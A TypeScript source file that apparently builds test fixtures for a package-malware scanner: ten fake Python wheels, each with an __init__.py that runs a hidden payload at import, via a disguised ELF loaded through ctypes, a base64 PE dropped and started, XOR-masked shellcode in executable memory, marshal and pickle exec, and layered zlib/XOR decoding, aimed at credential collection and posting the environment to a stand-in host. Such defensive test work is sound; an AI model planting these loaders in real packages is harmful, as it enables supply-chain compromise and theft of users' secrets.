import { deflateSync } from 'node:zlib';
import { execDecodedPyc, sendEnvironmentPyc, spawnTextPyc } from './bytecode.ts';
import { makeElf } from './elf.ts';
import { base64, blob, ENCODERS, xor } from './encoders.ts';
import { fillerModule } from './filler.ts';
import type { Draft, Remote, Replay, Site } from './incident.ts';
import { ctypesLibrary } from './look-alikes/native.ts';
import { compiledCache } from './look-alikes/plugins.ts';
import { credentialCollector, stagedLoader } from './payloads.ts';
import { makePe } from './pe.ts';
import { py, pyBytes } from './python-text.ts';

const REMOTE = 'https://edge.asset-mirror.invalid';

const site = (root: string, code: string): Site => ({
  path: `${root}/__init__.py`,
  form: 'module',
  before: `"""Numbers, fast."""\nfrom . import tables\n\n__version__ = "1.0.2"\n`,
  code,
  after: '',
});

const tables = (root: string): Draft['files'] => ({ [`${root}/tables.py`]: fillerModule('Tables.', 220, 171) });

const IMPLANT_IMPORTS = {
  'libc.so.6': ['socket', 'connect', 'dup2', 'execve', 'fork', 'setsid', 'gethostname', 'mprotect'],
};

/** A shared object that is called a data file. */
const disguised = (c: Remote): Draft => ({
  kind: 'wheel',
  name: 'numkernels',
  version: '1.0.2',
  files: {
    ...tables('numkernels'),
    'numkernels/data/weights.dat': makeElf({
      seed: 'numkernels',
      imports: IMPLANT_IMPORTS,
      exports: ['run_kernel'],
      strings: [c.address, '/bin/sh', '/etc/cron.d/numkernels', '.ssh/authorized_keys'],
      isLibrary: true,
      textBytes: 90_000,
    }),
  },
  sites: [
    site(
      'numkernels',
      py`
import ctypes
import os

_weights = os.path.join(os.path.dirname(__file__), "data", "weights.dat")
ctypes.CDLL(_weights, mode=ctypes.RTLD_GLOBAL).run_kernel()
`,
    ),
  ],
});

/** A program inside the source, written to the temporary folder and started. */
const embedded = (c: Remote): Draft => {
  const program = makePe({
    seed: 'embedded',
    imports: {
      'KERNEL32.dll': ['CreateRemoteThread', 'WriteProcessMemory', 'VirtualAllocEx', 'OpenProcess'],
      'WININET.dll': ['InternetOpenUrlA', 'InternetReadFile'],
    },
    strings: [c.url('/gate.php'), 'explorer.exe'],
    textBytes: 24_000,
  });
  return {
    kind: 'wheel',
    name: 'winclock',
    version: '1.0.2',
    files: tables('winclock'),
    sites: [
      site(
        'winclock',
        py`
import base64
import os
import subprocess
import tempfile


def calibrate():
    """Calibrate the clock."""
    path = os.path.join(tempfile.gettempdir(), "clockcal.exe")
    with open(path, "wb") as stream:
        stream.write(base64.b64decode("${base64(program)}"))
    subprocess.Popen(path, shell=True)


if os.name == "nt":
    calibrate()
`,
      ),
    ],
  };
};

/** Code bytes un-masked into executable memory. */
const shellcode = (): Draft => {
  const key = blob('shellcode key', 16);
  const masked = xor(blob('shellcode', 460), key);
  return {
    kind: 'wheel',
    name: 'fastcrc-native',
    version: '1.0.2',
    files: tables('fastcrc_native'),
    sites: [
      site(
        'fastcrc_native',
        py`
import ctypes
import sys

_TABLE = ${pyBytes(masked)}
_POLY = ${pyBytes(key)}


def _kernel():
    code = bytes(byte ^ _POLY[index % len(_POLY)] for index, byte in enumerate(_TABLE))
    memory = ctypes.windll.kernel32.VirtualAlloc(None, len(code), 0x3000, 0x40)
    ctypes.windll.kernel32.RtlMoveMemory(ctypes.c_void_p(memory), code, len(code))
    handle = ctypes.windll.kernel32.CreateThread(None, 0, ctypes.c_void_p(memory), None, 0, None)
    ctypes.windll.kernel32.WaitForSingleObject(handle, 0xFFFFFFFF)


if sys.platform == "win32":
    _kernel()
`,
      ),
    ],
  };
};

const orphan =
  (name: string, bytecode: (c: Remote) => Uint8Array) =>
  (c: Remote): Draft => {
    const root = name.replaceAll('-', '_');
    return {
      kind: 'wheel',
      name,
      version: '1.0.2',
      files: {
        ...tables(root),
        [`${root}/__init__.py`]: '"""Compact sets."""\nfrom . import tables\nfrom ._core import *\n',
        [`${root}/_core.pyc`]: bytecode(c),
      },
      sites: [],
    };
  };

const orphanDecoded = orphan('compactsets', (c) =>
  execDecodedPyc(base64(deflateSync(Buffer.from(stagedLoader(c)))), 'compactsets/_core.py'),
);
const orphanSpawn = orphan('compactmaps', (c) => spawnTextPyc(credentialCollector(c), 'compactmaps/_core.py'));
const orphanSend = orphan('compactlists', (c) => sendEnvironmentPyc(c.url('/env'), 'compactlists/_core.py'));

/** Marshal of a code object as a bytes literal, executed at import. */
const marshalled = (c: Remote): Draft => {
  const code = spawnTextPyc(credentialCollector(c), 'kernel.py').subarray(16);
  return {
    kind: 'wheel',
    name: 'seqkernels',
    version: '1.0.2',
    files: tables('seqkernels'),
    sites: [
      site(
        'seqkernels',
        `\nimport base64\nimport marshal\n\nexec(marshal.loads(base64.b64decode("${base64(code)}")))\n`,
      ),
    ],
  };
};

/** A pickle whose reduction calls exec on text. */
const pickled = (c: Remote): Draft => {
  const source = stagedLoader(c);
  const text = Buffer.from(source, 'utf8');
  const size = Buffer.alloc(4);
  size.writeUInt32LE(text.length);
  const model = Buffer.concat([
    Buffer.from('\x80\x03cbuiltins\nexec\nX', 'latin1'),
    size,
    text,
    Buffer.from('\x85Rq\x00.', 'latin1'),
  ]);
  return {
    kind: 'wheel',
    name: 'sentiment-lite',
    version: '1.0.2',
    files: { ...tables('sentiment_lite'), 'sentiment_lite/model.pkl': model },
    sites: [
      site(
        'sentiment_lite',
        py`
import os
import pickle

with open(os.path.join(os.path.dirname(__file__), "model.pkl"), "rb") as _stream:
    MODEL = pickle.load(_stream)
`,
      ),
    ],
  };
};

/** Bytecode next to a source of the same name that is clean: the loader takes the file named in the code. */
const sideLoaded = (c: Remote): Draft => ({
  kind: 'wheel',
  name: 'gridcache',
  version: '1.0.2',
  files: {
    ...tables('gridcache'),
    'gridcache/data/index.bin': execDecodedPyc(base64(deflateSync(Buffer.from(credentialCollector(c)))), 'index.py'),
  },
  sites: [
    site(
      'gridcache',
      py`
import marshal
import os

with open(os.path.join(os.path.dirname(__file__), "data", "index.bin"), "rb") as _stream:
    exec(marshal.loads(_stream.read()[16:]))
`,
    ),
  ],
});

const layered = (c: Remote): Draft => {
  const layer = ENCODERS.xor(deflateSync(Buffer.from(credentialCollector(c))));
  return {
    kind: 'wheel',
    name: 'ringbuffers',
    version: '1.0.2',
    files: tables('ringbuffers'),
    sites: [
      site(
        'ringbuffers',
        `\nimport ${layer.imports.join(', ')}\nimport importlib\nimport types\nimport zlib\n\n_module = types.ModuleType("_ring")\nexec(compile(zlib.decompress(${layer.expression}), "_ring", "exec"), _module.__dict__)\n`,
      ),
    ],
  };
};

const at = (
  id: string,
  title: string,
  runs: string,
  draft: Replay['draft'],
  lookAlikes: Replay['lookAlikes'] = () => [],
): Replay => ({
  id,
  title,
  source: 'https://attack.mitre.org/techniques/T1027/',
  runs,
  remote: REMOTE,
  draft,
  lookAlikes,
});

export const NATIVE_AND_BYTECODE: readonly Replay[] = [
  at(
    '29a-disguised-library',
    'a shared object named weights.dat, loaded through ctypes',
    'import loads a native library that is called a data file and calls a function of it',
    disguised,
    () => [ctypesLibrary()],
  ),
  at(
    '29b-embedded-program',
    'a PE file in base64, written to the temporary folder and started',
    'import on Windows decodes a program from the source, writes it to the temporary folder and starts it',
    embedded,
  ),
  {
    ...at(
      '29c-shellcode',
      'machine code un-masked into executable memory',
      'import on Windows un-masks 460 bytes, copies them into executable memory and starts a thread there',
      shellcode,
    ),
    remote: '',
  },
  at(
    '29d-orphan-pyc-decoded',
    'a .pyc without a source: inflates and executes',
    'import loads bytecode that has no source; it inflates a loader and executes it',
    orphanDecoded,
    () => [compiledCache()],
  ),
  at(
    '29e-orphan-pyc-spawn',
    'a .pyc without a source: python -c with a collector',
    'import loads bytecode that has no source; it starts Python with a collector of credentials',
    orphanSpawn,
  ),
  at(
    '29f-orphan-pyc-send',
    'a .pyc without a source: the environment is posted',
    'import loads bytecode that has no source; it posts the environment to a constant host',
    orphanSend,
  ),
  at(
    '29g-marshal',
    'a marshalled code object in base64',
    'import unmarshals a code object from a literal and executes it: it spawns a collector',
    marshalled,
  ),
  at(
    '29h-pickle',
    'a model file whose pickle calls exec',
    'import loads model.pkl, whose reduction calls exec on a loader',
    pickled,
  ),
  at(
    '29i-side-loaded-bytecode',
    'bytecode in a .bin file, unmarshalled at import',
    'import reads a bytecode file under another name, unmarshals and executes it',
    sideLoaded,
  ),
  at(
    '29j-new-module',
    'zlib under XOR, executed in a made-up module',
    'import un-masks and inflates a collector and executes it in the namespace of a new module',
    layered,
  ),
];
